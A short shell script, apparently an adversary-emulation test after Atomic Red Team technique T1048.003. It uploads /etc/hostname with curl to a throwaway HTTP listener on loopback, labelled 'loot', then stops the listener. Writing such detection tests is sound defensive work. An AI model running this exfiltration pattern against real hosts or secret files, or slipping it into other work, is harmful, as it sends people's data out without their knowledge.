#!/bin/sh
# T1048.003, after Atomic Red Team "Exfiltration Over Alternative Protocol - HTTP": send a local
# file with curl to a plain-HTTP listener on loopback.
set -e
port=$((30000 + $$ % 10000))
/usr/bin/python3 -m http.server --bind 127.0.0.1 "$port" > /dev/null 2>&1 &
srv=$!
i=0; until nc -z 127.0.0.1 "$port" 2>/dev/null || [ $i -ge 150 ]; do sleep 0.1; i=$((i + 1)); done
curl -s -m 5 -T /etc/hostname "http://127.0.0.1:$port/loot" > /dev/null || true
kill "$srv"
